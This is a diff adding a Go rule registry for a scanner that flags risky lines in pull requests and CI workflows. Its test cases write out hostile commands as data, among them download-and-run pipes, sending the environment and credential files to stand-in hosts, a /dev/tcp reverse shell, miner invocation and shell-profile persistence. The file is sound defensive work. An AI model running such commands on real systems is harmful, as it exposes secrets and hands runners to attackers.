@@ -1,0 +1,420 @@
+package attention
+
+import (
+	"fmt"
+	"sync"
+)
+
+// Rule is one thing the scan knows to look for. Rules are data: the
+// detectors (line patterns, the shell and workflow readers, the data-flow
+// pass) name a rule by its id and take its kind, severity, title and reason
+// from here, so what a rule means is said once. Cases define the rule: each
+// is a small file that must (or, with Not, must not) give an item of this
+// rule, and rules_test.go runs them all.
+type Rule struct {
+	ID       string
+	Kind     Kind
+	Severity string
+	Title    string // what was found, for people
+	Why      string // why it matters on the runner, in one sentence
+	Cases    []Case
+}
+
+// Case is a file added whole (Path, with Text as its lines) and the line its
+// item must be on; Line 0 means the file's last line, -1 a whole-file item.
+// Not inverts it: no item of the rule anywhere in the file.
+type Case struct {
+	Path string
+	Text string
+	Line int
+	Not  bool
+}
+
+// The reasons several rules share.
+const (
+	hiddenWhy   = "what the line shows is not what the compiler, shell or reviewer reads"
+	whyScript   = "a script the build or CI may call: read what it runs"
+	whyRunner   = "it runs on the project's runners with their network and secrets"
+	whyDownload = "code fetched at run time is not in this diff, yet it runs on the runner with its network and secrets"
+	whySecrets  = "the runner's environment holds its tokens and secrets; whoever reads this output gets them"
+	whySource   = "it changes where the code that is built and run comes from"
+)
+
+// rules is the registry, by severity then family.
+var rules = []Rule{
+	// ---- code that runs what the diff does not show
+	{"decode-and-run", KindDecodeExec, High, "decodes data and runs it",
+		"a payload nobody can read in the diff is decoded and run on the runner", []Case{
+			{"x.sh", "echo aGkK | base64 --decode | sh", 0, false},
+			{"x.py", "exec(base64.b64decode(PAYLOAD))", 0, false},
+			{"x.sh", "echo $P | base64 -d > /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x", 3, false},
+			{"x.js", "const s = Buffer.from(h, 'hex').toString()\nconst m = new module.constructor()\nm._compile(s, 'x.js')", 3, false},
+			{"x.sh", "echo aGkK | base64 -d > out.txt", 0, true},
+		}},
+	{"download-and-run", KindDownload, High, "downloads code and runs it", whyDownload, []Case{
+		{"x.sh", "curl -fsSL https://x.invalid/i | sh", 0, false},
+		{"x.sh", "curl -fsSL \\\n  https://x.invalid/i \\\n  | bash", 3, false},
+		{"x.sh", "S=$(curl -s https://x.invalid/s)\necho ok\necho ok\neval \"$S\"", 4, false},
+		{"x.sh", "curl -sLo /tmp/t https://x.invalid/t\nbash /tmp/t", 2, false},
+		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", 0, true},
+	}},
+	{"vendor-installer", KindDownload, Medium, "runs a vendor's installer fetched from the vendor's own host",
+		"the documented install step of a well-known tool; it runs code the diff does not show, from a host the project already trusts", []Case{
+			{"Dockerfile", "FROM debian:12\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -", 0, false},
+			{"x.sh", "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y", 0, false},
+		}},
+	{"secret-send", KindCredential, High, "sends secrets or the environment over the network",
+		"the runner's tokens and secrets leave for a machine outside", []Case{
+			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
+			{"x.sh", "curl -F f=@$HOME/.aws/credentials https://x.invalid/u", 0, false},
+			{"x.sh", "env > /tmp/e.txt\necho done\ncurl --data @/tmp/e.txt https://x.invalid/u", 3, false},
+			{"x.py", "import os, requests\nd = dict(os.environ)\nrequests.post('https://x.invalid', json=d)", 3, false},
+			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b`, 0, true},
+		}},
+	{"env-exfiltration", KindCredential, High, "dumps the environment (secrets included)", whySecrets, []Case{
+		{"x.sh", "printenv > /tmp/e", 0, false},
+		{"x.sh", "env | sort", 0, true},
+	}},
+	{"reverse-shell", KindNetwork, High, "opens a raw connection or a reverse shell",
+		"it gives a machine outside a shell inside the project's network and runner", []Case{
+			{"x.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 0, false},
+			{"x.sh", "nc -lvp 4444", 0, true},
+		}},
+	{"crypto-mining", KindExecute, High, "mines cryptocurrency",
+		"it spends the project's machines on someone else's mining", []Case{
+			{"x.sh", "./xmrig -o stratum+tcp://pool.invalid:3333", 0, false},
+		}},
+	{"persistence", KindExecute, High, "installs something that runs again later (cron, systemd, shell profile, keys)",
+		"it outlives this job: the next job on the runner, another project's included, runs it too", []Case{
+			{"x.sh", "echo 'curl x.invalid|sh' >> ~/.bashrc", 0, false},
+			{"x.js", "const rc = path.join(os.homedir(), '.bashrc')\nfs.appendFileSync(rc, line)", 2, false},
+			{"x.py", "with open(os.path.expanduser('~/.zshrc'), 'a') as f:", 0, false},
+			{"x.sh", "echo hi | tee -a ~/.profile", 0, false},
+			{"x.sh", "source ~/.bashrc", 0, true},
+		}},
+	{"cgo-flags", KindBuildFile, High, "cgo directive passes a compiler plugin or linker flag that runs code",
+		"go build hands these flags to the C toolchain, which loads and runs what they name at build time", []Case{
+			{"x.go", "// #cgo LDFLAGS: -Wl,-plugin=/tmp/p.so", 0, false},
+			{"x.go", "// #cgo CFLAGS: -fplugin=./tools/x.so", 0, false},
+			{"x.go", "// #cgo LDFLAGS: -lm", 0, true},
+		}},
+	{"build-code-fetch", KindDownload, High, "downloads, connects or starts a process from code that runs by itself at install, build or test time",
+		"nobody has to call it: the build or test run does, on the runner with its network and secrets", []Case{
+			{"setup.py", "import urllib.request\nurllib.request.urlopen('https://x.invalid/p')", 2, false},
+		}},
+	{"npm-lifecycle-runs", KindScript, High, "npm lifecycle script downloads, decodes or runs inline code",
+		"npm runs it at install on the runner, before any test, and what it runs is not in the diff", []Case{
+			{"package.json", "{\n  \"scripts\": {\n    \"postinstall\": \"curl -s https://x.invalid/i | sh\"\n  }\n}", 3, false},
+			{"package.json", "{\n  \"scripts\": {\n    \"preinstall\": \"node -e \\\"require('child_process').exec('id')\\\"\"\n  }\n}", 3, false},
+			{"package.json", "{\n  \"scripts\": {\n    \"prepare\": \"husky install\"\n  }\n}", 3, true},
+		}},
+	{"npm-lifecycle", KindScript, Medium, "npm lifecycle script: runs on npm install",
+		"npm runs it at install on the runner, before any test: read what it runs", []Case{
+			{"package.json", "{\n  \"scripts\": {\n    \"postinstall\": \"node scripts/setup.js\"\n  }\n}", 3, false},
+			{"x.json", `"install": "make"`, 0, true},
+		}},
+
+	// ---- the runner itself
+	{"runner-register", KindRunner, High, "registers a self-hosted runner",
+		"a runner registered from a job takes later jobs, secrets included, onto a machine the change controls", []Case{
+			{"x.sh", "./config.sh --url https://github.com/o/r --token $T --unattended", 0, false},
+			{"x.sh", "export RUNNER_ALLOW_RUNASROOT=1", 0, false},
+		}},
+	{"runner-action-cache", KindRunner, High, "writes into the runner's action or tool cache",
+		"a later step, or a later job on the same runner, runs the changed code in place of the action it names", []Case{
+			{"x.sh", "cp evil.js /home/runner/work/_actions/actions/checkout/v4/dist/index.js", 0, false},
+			{"x.sh", `echo x > "$RUNNER_WORKSPACE/../_actions/actions/setup-node/v4/dist/setup/index.js"`, 0, false},
+		}},
+	{"gha-cache-poisoning", KindRunner, High, "saves a cache from code a pull request controls",
+		"a privileged workflow that restores the cache then runs what the pull request put in it", []Case{
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 9, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm", 6, true},
+		}},
+	{"gha-artifact-run", KindRunner, High, "runs a file from an artifact in a privileged workflow",
+		"the artifact was made by the pull request's own run; here it runs with the write token and secrets", []Case{
+			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\n    types: [completed]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          name: pr\n          run-id: ${{ github.event.workflow_run.id }}\n      - run: bash ./pr/post.sh", 13, false},
+		}},
+
+	// ---- credentials
+	{"private-key", KindCredential, High, "holds a private key",
+		"a key committed to the tree is a key anyone who reads the repository holds", []Case{
+			{"deploy/key.pem", "-----BEGIN PRIVATE KEY-----", 0, false},
+		}},
+	{"live-token", KindCredential, High, "holds what looks like a live token",
+		"a live credential in the change is leaked to everyone who can read the pull request", []Case{
+			{"x.py", `T = "ghp_R8x2mQ7vLk3NwZ9pT4yHs6uJc1bDf0aGe5Vo"`, 0, false},
+			{"x.py", `K = "AKIAIOSFODNN7EXAMPLE"`, 0, true},
+		}},
+	{"credential-file-read", KindCredential, High, "reads credential files (~/.ssh, .netrc, ...)",
+		"the runner's own keys and tokens sit in these files", []Case{
+			{"x.sh", "cat ~/.ssh/id_rsa", 0, false},
+		}},
+	{"ci-secrets", KindCredential, High, "reads CI secrets",
+		"it hands the project's secrets to what the change runs", []Case{
+			{"x.js", "const k = `${{ secrets.API_KEY }}`", 0, false},
+		}},
+	{"ci-runner-token", KindCredential, High, "uses the runner's internal token",
+		"with the runner's cache or OIDC token a step can poison the cache or mint cloud credentials", []Case{
+			{"x.sh", "curl -H \"Authorization: Bearer $ACTIONS_RUNTIME_TOKEN\" \"$ACTIONS_CACHE_URL\"", 0, false},
+		}},
+	{"package-index-insecure", KindDependency, High, "installs from plain http or without checking the index's certificate",
+		"anyone on the runner's network path can swap what it installs", []Case{
+			{"x.sh", "pip install --trusted-host pypi.invalid x", 0, false},
+		}},
+	{"in-tree-build-backend", KindBuildFile, High, "builds with a backend from the tree itself (backend-path)",
+		"pip imports and runs the change's own code at install, before any test", []Case{
+			{"pyproject.toml", "[build-system]\nbackend-path = [\".\"]", 0, false},
+		}},
+	{"git-hooks", KindScript, High, "points git at hooks the change ships",
+		"every later git command on the runner runs the change's own scripts", []Case{
+			{"x.sh", "git config core.hooksPath .githooks", 0, false},
+		}},
+	{"git-config-exec", KindExecute, High, "configures a command git runs by itself (filter, textconv, fsmonitor, ssh)",
+		"git runs the configured command on checkout, diff or fetch, without anyone calling it", []Case{
+			{"x.sh", "git config filter.x.smudge ./x.sh", 0, false},
+		}},
+
+	// ---- where code comes from
+	{"dependency-url", KindDependency, High, "takes a dependency from a URL, tarball or git repository",
+		"the code comes from wherever the URL points, not from the package registry, and its install scripts run on the runner", []Case{
+			{"package.json", "{\n  \"dependencies\": {\n    \"lodash\": \"https://x.invalid/lodash-4.17.21.tgz\"\n  }\n}", 3, false},
+			{"requirements.txt", "requests @ https://x.invalid/requests-2.32.0.tar.gz", 0, false},
+			{"package.json", "{\n  \"dependencies\": {\n    \"lodash\": \"^4.17.21\"\n  }\n}", 3, true},
+		}},
+	{"registry-redirect", KindDependency, High, "points package installs at another registry or index",
+		"every package the build installs can then come from whoever runs that host (dependency confusion)", []Case{
+			{".npmrc", "registry=https://npm.x.invalid/", 0, false},
+			{"x.sh", "pip install --extra-index-url https://pypi.x.invalid/simple app", 0, false},
+			{"pip.conf", "[global]\nindex-url = https://pypi.x.invalid/simple", 2, false},
+			{"x.sh", "pip install --extra-index-url https://download.pytorch.org/whl/cpu torch", 0, true},
+		}},
+	{"source-switched", KindDependency, High, "switches where a dependency, image, submodule or hook comes from",
+		"the same name now fetches code from another owner or host", []Case{
+			{"Dockerfile", "diff --git a/Dockerfile b/Dockerfile\n--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1 +1 @@\n-FROM node:20-slim\n+FROM nodesource/node:20-slim\n", 1, false},
+			{".gitmodules", "diff --git a/.gitmodules b/.gitmodules\n--- a/.gitmodules\n+++ b/.gitmodules\n@@ -1,2 +1,2 @@\n [submodule \"lib\"]\n-\turl = https://github.com/acme/lib.git\n+\turl = https://github.com/acme-mirror/lib.git\n", 2, false},
+			{"Dockerfile", "diff --git a/Dockerfile b/Dockerfile\n--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1 +1 @@\n-FROM node:20-slim\n+FROM node:22-slim\n", 1, true},
+		}},
+	{"lookalike-source", KindDependency, High, "names a look-alike of a well-known action, image or hook repository",
+		"a name one letter off a well-known one is how typosquatted code gets run", []Case{
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actlons/checkout@v4", 4, false},
+			{"Dockerfile", "FROM pyth0n:3.12", 0, false},
+		}},
+	{"gradle-distribution", KindBuildFile, High, "Gradle wrapper downloads Gradle from somewhere else",
+		"gradlew downloads and runs the distribution it names, on every build", []Case{
+			{"gradle/wrapper/gradle-wrapper.properties", `distributionUrl=https\://x.invalid/gradle-8.7-bin.zip`, 0, false},
+			{"gradle/wrapper/gradle-wrapper.properties", `distributionUrl=https\://services.gradle.org/distributions/gradle-8.7-bin.zip`, 0, true},
+		}},
+	{"docker-from-unfamiliar", KindBuildFile, High, "builds from an image on an unfamiliar registry or a look-alike name",
+		"the base image's code runs in every build, and this one is not from where the official image lives", []Case{
+			{"Dockerfile", "FROM registry.x.invalid/python:3.12", 0, false},
+			{"Dockerfile", "FROM python:3.12-slim AS build", 0, true},
+		}},
+	{"pre-commit-repo", KindBuildFile, Medium, "pre-commit runs hooks from this repository",
+		"pre-commit fetches and runs the hooks it names, on the runner and on every contributor's machine", []Case{
+			{".pre-commit-config.yaml", "repos:\n  - repo: https://github.com/psf/black\n    rev: 24.1.0", 2, false},
+		}},
+	{"pre-commit-repo-unfamiliar", KindBuildFile, High, "pre-commit runs hooks from an unfamiliar host or a look-alike of a well-known hook repository",
+		"pre-commit fetches and runs the hooks it names, and this repository is not the one it looks like", []Case{
+			{".pre-commit-config.yaml", "repos:\n  - repo: https://git.x.invalid/hooks/pre-commit-hooks\n    rev: v4.5.0", 2, false},
+		}},
+	{"gitmodules-url-unsafe", KindDependency, High, "submodule URL runs a command or leaves https",
+		"git runs ext:: URLs as commands, and an option-shaped or plain-http URL is fetched on every recursive checkout", []Case{
+			{".gitmodules", "[submodule \"x\"]\n\turl = ext::sh -c touch% /tmp/pwned", 2, false},
+		}},
+
+	// ---- workflows
+	{"gha-script-injection", KindExecute, High, "expands untrusted pull-request text into a command (script injection)",
+		"a branch name, title or comment is written by whoever opens the pull request, and here it becomes shell or script code run with the job's token and secrets", []Case{
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: echo \"${{ github.event.pull_request.title }}\"", 4, false},
+		}},
+	{"gha-env-injection", KindExecute, High, "writes untrusted pull-request text into GITHUB_ENV or GITHUB_PATH",
+		"every later step of the job runs with what the pull request's author chose as its environment", nil},
+	{"gha-all-secrets", KindCredential, High, "hands every secret to the step (toJSON(secrets))",
+		"every secret the repository holds reaches this step, where the change's code can send them anywhere", []Case{
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - env:\n          ALL: ${{ toJSON(secrets) }}", 5, false},
+		}},
+	{"gha-untrusted-checkout", KindCIFile, High, "checks out the pull request's head in a privileged workflow",
+		"on pull_request_target or workflow_run the pull request's own code then runs with the repository's write token and secrets", nil},
+	{"gha-unsecure-commands", KindExecute, High, "re-enables set-env/add-path workflow commands",
+		"any step's output can then set the environment of the steps after it", nil},
+	{"gha-excessive-permissions", KindCIFile, High, "gives write permissions to a workflow that runs pull-request code",
+		"the job's token can then push code, publish packages or mint cloud credentials for whatever the change runs", []Case{
+			{".github/workflows/a.yml", "on: pull_request\npermissions: write-all", 2, false},
+			{".github/workflows/a.yml", "on:\n  push:\n    tags: ['v*']\npermissions:\n  contents: write", 5, true},
+		}},
+	{"gha-write-permission", KindCIFile, Medium, "gives the job's token write permissions",
+		"the token can write to the repository for whatever the job runs; this workflow does not run for pull requests", nil},
+	{"gha-persist-credentials", KindCredential, High, "checkout keeps the job's token on disk (persist-credentials: true)",
+		"every later step, the change's own build and tests included, can read the token from .git/config", nil},
+	{"gha-self-hosted-runner", KindCIFile, High, "runs pull-request code on a self-hosted runner",
+		"a self-hosted runner keeps what a job leaves behind and sits inside the project's network, and this workflow runs for pull requests", nil},
+	{"gha-self-hosted", KindCIFile, Medium, "runs on a self-hosted runner",
+		"a self-hosted runner keeps what a job leaves behind and sits inside the project's network", nil},
+	{"gha-env-hijack", KindExecute, High, "sets a variable that makes later steps load code (LD_PRELOAD, NODE_OPTIONS, BASH_ENV)",
+		"every later step of the job, the ones with secrets included, loads what it names", nil},
+	{"gha-github-env-privileged", KindExecute, High, "writes GITHUB_ENV or GITHUB_PATH in a privileged workflow",
+		"on pull_request_target or workflow_run, what the pull request puts there runs in every later step with the write token", nil},
+	{"gha-github-env", KindExecute, Low, "writes GITHUB_ENV or GITHUB_PATH",
+		"later steps of the job run with what it writes", nil},
+	{"secret-exfiltration", KindCredential, High, "sends a secret over the network",
+		"a secret expanded into a command that talks to the network can go anywhere", []Case{
+			// A hunk inside a run: block the shell parser cannot read whole.
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -10,2 +10,3 @@\n         run: |\n+          if [ x ]; then wget -q \"https://x.invalid/?t=${{ secrets.NPM_TOKEN }}\"\n           make\n", 11, false},
+		}},
+	{"gha-unpinned-uses", KindCIFile, Medium, "uses a third-party action or workflow by tag, not commit SHA",
+		"whoever owns the action can move the tag, and their code then runs with the job's token and secrets", []Case{
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: acme/deploy-action@v1", 4, false},
+		}},
+	{"gha-unpinned-branch", KindCIFile, High, "uses a third-party action at a branch or with no version",
+		"the action's branch, whatever it holds at run time, runs with the job's token and secrets", []Case{
+			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: acme/deploy-action@main", 4, false},
+		}},
+	{"gha-first-party-tag", KindCIFile, Low, "uses a GitHub action by tag, not commit SHA",
+		"a tag can be moved to other code; GitHub's own actions are the ones every workflow already trusts", nil},
+	{"gha-container-tag", KindCIFile, Medium, "runs a container image by tag, not digest",
+		"whoever can push the tag decides what runs in the job", nil},
+	{"gha-impostor-commit", KindCIFile, High, "pins an action to a commit that is not in the action's repository (impostor commit)",
+		"a commit from a fork can be addressed through the parent's name; the code that runs is the fork's, whatever the tag comment says", nil},
+	{"gha-sha-retagged", KindCIFile, High, "changes an action's commit SHA but keeps the tag it claims",
+		"an update moves the SHA and the tag together; a new SHA under the old tag comment is how an impostor or fork commit is slipped in", []Case{
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,2 +1,2 @@\n steps:\n-  - uses: acme/act@1111111111111111111111111111111111111111 # v2.0.1\n+  - uses: acme/act@2222222222222222222222222222222222222222 # v2.0.1\n", 2, false},
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,2 +1,2 @@\n steps:\n-  - uses: acme/act@1111111111111111111111111111111111111111 # v2.0.1\n+  - uses: acme/act@2222222222222222222222222222222222222222 # v2.0.2\n", 2, true},
+		}},
+	{"gha-pinned-unchecked", KindCIFile, Low, "pins an action to a commit SHA (not checked against the action's repository)",
+		"a SHA from a fork can be addressed through the action's name; offline, vetter could not ask GitHub whether this commit is the action's own", nil},
+	{"gha-privileged-trigger", KindCIFile, Medium, "workflow runs on pull_request_target or workflow_run",
+		"these triggers run with the repository's write token and secrets even for a fork's pull request: what matters is whether a step runs the pull request's code", []Case{
+			{".github/workflows/a.yml", "on: pull_request_target\npermissions:\n  contents: read", 1, false},
+		}},
+	{"gha-secrets-inherit", KindCredential, Medium, "passes every secret to a called workflow (secrets: inherit)",
+		"the called workflow gets every secret of the repository, not the few it needs", nil},
+	{"gha-secret-in-privileged", KindCredential, Medium, "passes a secret to a step of a privileged workflow",
+		"on pull_request_target or workflow_run the secret is available to a job a fork's pull request starts", nil},
+	{"gha-pr-checkout", KindCIFile, Low, "checks out the pull request's head",
+		"normal on pull_request; it would be dangerous under pull_request_target", nil},
+	{"gha-secret-in-run", KindCredential, Medium, "expands a secret inside a command",
+		"the secret becomes part of the command line; check what the command does with it", nil},
+	{"gha-secret", KindCredential, Medium, "passes a secret to a step",
+		"the step, and whatever code it runs, gets the secret", nil},
+
+	// ---- hidden text
+	{"hidden-bidi", KindHiddenUnicode, High, "bidirectional-control characters reorder what you see (Trojan Source)", hiddenWhy, []Case{
+		{"x.go", "// \u202e hidden", 0, false},
+	}},
+	{"hidden-payload", KindHiddenUnicode, High, "invisible characters (variation selectors, tags, zero-width) inside code",
+		"invisible characters inside code or a string can carry a payload a decoder turns into code, or make two names that look the same differ", []Case{
+			{"x.js", "const s = '\U000E0061\U000E0062\U000E0063'", 0, false},
+			{"x.js", "const p = 'x\ufe00\ufe01\ufe02\ufe03'", 0, false},
+			{"x.go", "if user\u200b == admin {", 0, false},
+			{"x.js", "const ok = '👍🏽'", 0, true},
+		}},
+	{"hidden-text", KindHiddenUnicode, Medium, "invisible characters in the line", hiddenWhy, []Case{
+		{"README.md", "see\u200bthis", 0, false},
+	}},
+
+	// ---- medium: a person should read it, but it needs another step to do harm
+	{"go-generate", KindGoGenerate, Medium, "go:generate runs a command on go generate",
+		"go generate runs the command in the build's environment if CI calls it", []Case{{"x.go", "//go:generate go run ./gen", 0, false}}},
+	{"setup-cmdclass", KindBuildFile, Medium, "setup.py overrides a setup command (runs at install)", "pip runs the overriding code at install",
+		[]Case{{"setup.py", `cmdclass={"install": Post},`, 0, false}}},
+	{"build-hook", KindBuildFile, Medium, "names a build backend, build hook or test plugin that runs by itself",
+		"the build or test runner imports and runs it without anyone calling it", nil},
+	{"gomod-replace", KindDependency, Medium, "go.mod replace directive points a module elsewhere",
+		"the build uses other code than the module's own", []Case{{"go.mod", "replace example.com/a => ../a", 0, false}}},
+	{"package-index", KindDependency, Medium, "installs from another package index or a git URL",
+		"packages may come from an index the project does not control", nil},
+	{"decode", KindDecodeExec, Medium, "decodes base64 or hex in a command",
+		"decoded bytes are what runs or is written, and the diff does not show them", []Case{{"x.sh", "xxd -r -p payload.hex > a.out", 0, false}}},
+	{"docker-add-url", KindDownload, Medium, "Dockerfile ADD downloads a URL", whyDownload, []Case{{"Dockerfile", "ADD https://x.invalid/t.tgz /opt/", 0, false}}},
+	{"download", KindDownload, Medium, "downloads or calls a URL",
+		"what it fetches or sends is not in the diff; check where it goes and what uses it", []Case{{"x.py", "r = requests.get(url, timeout=5)", 0, false}}},
+	{"git-clone", KindDownload, Medium, "clones a git repository", "what it fetches is not in the diff",
+		[]Case{{"x.sh", "git clone https://x.invalid/r.git", 0, false}}},
+	{"install-packages", KindDownload, Medium, "installs packages or tools",
+		"installing runs the packages' own install code on the runner", []Case{{"x.sh", "apt-get -y install jq", 0, false}}},
+	{"pipe-to-shell", KindExecute, Medium, "pipes into a shell or interpreter", "whatever comes down the pipe runs as code",
+		[]Case{{"x.sh", "cat notes | bash", 0, false}}},
+	{"shell-string", KindExecute, Medium, "runs a shell command string (sh -c)", "a command built as a string can run more than it seems to",
+		[]Case{{"x.sh", `sh -c "$CMD"`, 0, false}}},
+	{"start-process", KindExecute, Medium, "starts a process (subprocess, os/exec, system, child_process)",
+		"check which command it runs and with what input", []Case{{"x.py", "subprocess.run(args)", 0, false}}},
+	{"eval", KindExecute, Medium, "runs code (eval or exec)", "code built at run time is not the code in the diff",
+		[]Case{{"x.py", "exec(code)", 0, false}}},
+	{"network", KindNetwork, Medium, "opens a network connection", "check where it connects and what it sends",
+		[]Case{{"x.py", "s = socket.socket()", 0, false}}},
+	{"gitattributes-filter", KindBuildFile, Medium, "names a git filter or driver",
+		"git runs the filter or driver a git config defines for it on checkout and diff", nil},
+	{"gitmodules-url", KindDependency, Medium, "submodule URL", "a recursive checkout fetches and checks out code from it", nil},
+	{"credential-file", KindCredential, Medium, "names a credential file", "check nothing reads it", nil},
+	{"ci-token", KindCredential, Medium, "reads or names a CI token", "check what reads it and where it goes; sending it is what the data-flow rules rate high",
+		[]Case{{"auth.go", `tok := os.Getenv("GITHUB_TOKEN")`, 0, false}}},
+	{"cloud-credentials", KindCredential, Medium, "names cloud or publishing credentials",
+		"with these a change can publish packages or reach the project's cloud as the project; check where they go", []Case{
+			{"x.py", `key = os.environ["AWS_SECRET_ACCESS_KEY"]`, 0, false}}},
+	{"auth-header", KindCredential, Medium, "sends an Authorization header", "check which credential it sends and to whom", nil},
+	{"ci-secrets-name", KindCredential, Medium, "names a CI secret", "check where the secret goes",
+		[]Case{{"x.js", "const k = secrets.API_KEY", 0, false}}},
+	{"names-secret", KindCredential, Medium, "names a password, token or API key",
+		"check it is not a real credential, and where it is sent", []Case{{"config.py", `api_key = "abc"`, 0, false}}},
+
+	// ---- whole files
+	{"ci-workflow", KindCIFile, Medium, "CI workflow", "a workflow runs on the project's runners with the repository's token and secrets once the change is tested; its lines are read rule by rule", nil},
+	{"ci-action", KindCIFile, Medium, "GitHub Action", "a local action runs inside the workflows that use it, with their token and secrets; its lines are read rule by rule", nil},
+	{"ci-config", KindCIFile, Medium, "CI config", whyRunner, nil},
+	{"test-config", KindTestConfig, Medium, "test configuration", "the test runner loads it on every run CI makes", nil},
+	{"git-hook", KindScript, Medium, "git hook", "runs at git commands wherever the hooks are installed, the runner's checkout included", nil},
+	{"envrc", KindScript, Medium, "direnv .envrc", "direnv runs it in every shell that enters the folder", nil},
+	{"editor-tasks", KindScript, Medium, "editor tasks", "an editor runs these tasks in the reviewer's own workspace", nil},
+	{"script", KindScript, Medium, "script", whyScript, nil},
+	{"executable-bit", KindScript, Medium, "file made executable", whyScript, nil},
+	{"makefile", KindBuildFile, Medium, "Makefile", "make runs its recipes as shell commands during the build", nil},
+	{"dockerfile", KindBuildFile, Medium, "Dockerfile", "its RUN lines run at image build, on the runner with its network", nil},
+	{"compose", KindBuildFile, Medium, "Docker Compose file", "it decides which images run and what they mount during the build or tests", nil},
+	{"setup-py", KindBuildFile, Medium, "setup.py", "pip runs setup.py at install, before any test and whatever the tests say", nil},
+	{"build-backend", KindBuildFile, Medium, "Python packaging config", "it names the build backend and hooks pip runs at install", nil},
+	{"package-json", KindBuildFile, Medium, "package.json", "npm runs its lifecycle scripts at install, before any test", nil},
+	{"build-rs", KindBuildFile, Medium, "Cargo build script", "cargo runs build.rs at every build, before any test", nil},
+	{"build-file", KindBuildFile, Medium, "build file", "it runs during the build, on the runner", nil},
+	{"gitattributes", KindBuildFile, Medium, "git attributes", "it names the filters and drivers git runs on checkout and diff", nil},
+	{"gitmodules", KindBuildFile, Medium, "git submodules", "a recursive checkout fetches and checks out whatever it names", nil},
+	{"git-config", KindBuildFile, High, "git config", "a git config in the tree can name commands git runs (filters, hooks, fsmonitor)", nil},
+	{"codeowners", KindBuildFile, High, "CODEOWNERS", "it decides whose approval a change needs: editing it can take a reviewer off what comes next", nil},
+	{"pre-commit", KindBuildFile, Medium, "pre-commit config", "pre-commit fetches and runs the hooks it names", nil},
+	{"package-manager-config", KindBuildFile, Medium, "package manager config", "it can point installs at another registry or run scripts", nil},
+	{"devcontainer", KindBuildFile, Medium, "dev container config", "its commands run when the container is built or opened", nil},
+	{"dependency", KindDependency, Low, "dependency manifest", "it changes which code is fetched and built", nil},
+	{"lock-file", KindDependency, Low, "lock file", "it changes exactly which code is fetched and built", nil},
+	{"binary-executable", KindBuildFile, High, "binary that can run", "a program or library nobody can read in the diff, which the build or tests can load and run", nil},
+	{"binary-file", KindBuildFile, Medium, "binary file", "its content cannot be read in the diff; check what reads it", nil},
+	{"symlink", KindBuildFile, Medium, "symbolic link added", "a tool that follows it reads or writes where it points, not the file it seems to be", nil},
+	{"symlink-escape", KindBuildFile, High, "symbolic link points outside the repository", "a build or test that reads or uploads the file reads the runner's own file instead", nil},
+	{"more", KindScript, Medium, "and more to look at in this file", "a file with this many risky lines is itself worth a careful read", nil},
+}
+
+var ruleIndex = sync.OnceValue(func() map[string]*Rule {
+	m := make(map[string]*Rule, len(rules))
+	for i := range rules {
+		r := &rules[i]
+		if _, dup := m[r.ID]; dup {
+			panic("attention: rule " + r.ID + " declared twice")
+		}
+		m[r.ID] = r
+	}
+	return m
+})
+
+// RuleByID returns the rule of that id, or nil.
+func RuleByID(id string) *Rule { return ruleIndex()[id] }
+
+// Rules returns the registry, for docs and tests.
+func Rules() []Rule { return rules }
+
+// rule returns the registered rule of that id; an unknown id is a bug in a
+// detector, caught by the tests.
+func rule(id string) *Rule {
+	r := RuleByID(id)
+	if r == nil {
+		panic(fmt.Sprintf("attention: no rule %q", id))
+	}
+	return r
+}
